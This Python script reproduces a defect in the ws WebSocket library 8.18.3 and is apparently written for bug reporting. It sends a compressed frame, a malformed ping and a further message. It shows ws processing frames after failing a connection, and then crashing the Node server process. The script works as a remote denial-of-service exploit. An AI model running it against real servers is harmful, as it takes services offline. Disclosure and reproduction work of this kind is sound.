#!/usr/bin/env python3
# Reproduces a defect of the npm package ws 8.18.3 (Node 20) with permessage-deflate, found by
# `wsconf fuzz --deflate` (README, "Compressed cases"). While ws inflates a compressed message, the TCP
# reads that arrive are queued; when the inflate ends, ws parses them all at once, and after it has
# refused one (and failed the connection) it goes on with the next ones (RFC 6455 §7.1.7: "the endpoint
# MUST NOT continue to attempt to process data ... after being instructed to _Fail the WebSocket
# Connection_"). Connection 1 shows it: ws answers a ping sent after the frame it refused. Connection 2
# ends the TCP connection while ws inflates a message it should never have read: ws closes that zlib
# stream under the inflate, its flush callback reads `this._inflate[kError]` on null
# (permessage-deflate.js:366) and the Node process exits.
# Usage: python3 ws-inflate-after-failure.py ws://127.0.0.1:PORT/   (a ws server with perMessageDeflate)
import base64, os, socket, sys, time, urllib.parse, zlib

GAP = 0.01  # long enough for ws to read each write on its own, well inside the ~0.1 s inflate of BIG


def frame(opcode, payload, rsv1=False):
    key = os.urandom(4)
    n = len(payload)
    length = bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + n.to_bytes(2, 'big')
    return bytes([0x80 | (0x40 if rsv1 else 0) | opcode]) + length + key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))


def deflated(message):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(message) + c.flush(zlib.Z_SYNC_FLUSH)
    return data[:-4]  # RFC 7692 §7.2.1: without the trailing 00 00 ff ff


BIG = frame(0x2, deflated(b'\0' * (15 << 20)), rsv1=True)  # 15 KiB on the wire (under ws's 16 KiB read buffer), 15 MiB inflated
REFUSED = b'\x89\xff'  # a ping whose length uses the 64-bit form: ws refuses it with 1002 after these 2 octets


def connect(url):
    s = socket.create_connection((url.hostname, url.port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall((f'GET {url.path or "/"} HTTP/1.1\r\nHost: {url.hostname}:{url.port}\r\nUpgrade: websocket\r\n'
               f'Connection: Upgrade\r\nSec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\n'
               'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n').encode())
    head = b''
    while b'\r\n\r\n' not in head:
        head += s.recv(4096)
    assert b' 101 ' in head.split(b'\r\n')[0] and b'permessage-deflate' in head, head
    return s, head.split(b'\r\n\r\n', 1)[1]


def frames(s, buffered):
    """Yields (opcode, payload) of each frame the server sends until it closes TCP."""
    data = buffered
    while True:
        while len(data) >= 2:
            n, start = data[1] & 0x7f, 2
            if n == 126:
                n, start = int.from_bytes(data[2:4], 'big'), 4
            elif n == 127:
                n, start = int.from_bytes(data[2:10], 'big'), 10
            if len(data) < start + n:
                break
            yield data[0] & 0x0f, data[start:start + n]
            data = data[start + n:]
        try:
            more = s.recv(1 << 20)
        except OSError:
            return
        if not more:
            return
        data += more


url = urllib.parse.urlparse(sys.argv[1])

print('1) a compressed message, a frame ws must refuse, then a ping: a conformant server fails the connection and never answers that ping')
s, rest = connect(url)
for octets in (BIG, REFUSED, frame(0x9, b'after the refused frame')):
    s.sendall(octets)
    time.sleep(GAP)
for opcode, payload in frames(s, rest):
    shown = payload if len(payload) <= 40 else f'{len(payload)} octets'
    print(f'   <- opcode {opcode:#x}: {shown!r}' + ('   <== processed after the refused frame' if opcode == 0xA else ''))
s.close()

print('2) the same, then a compressed message and the end of the TCP connection')
s, _ = connect(url)
for octets in (BIG, REFUSED, frame(0x1, deflated(b'Hello'), rsv1=True)):
    s.sendall(octets)
    time.sleep(GAP)
s.shutdown(socket.SHUT_WR)
for _ in frames(s, b''):
    pass
s.close()
time.sleep(0.5)
try:
    socket.create_connection((url.hostname, url.port), timeout=2).close()
    print('   the server still accepts connections')
except OSError as e:
    print(f'   the server is gone: {e}')
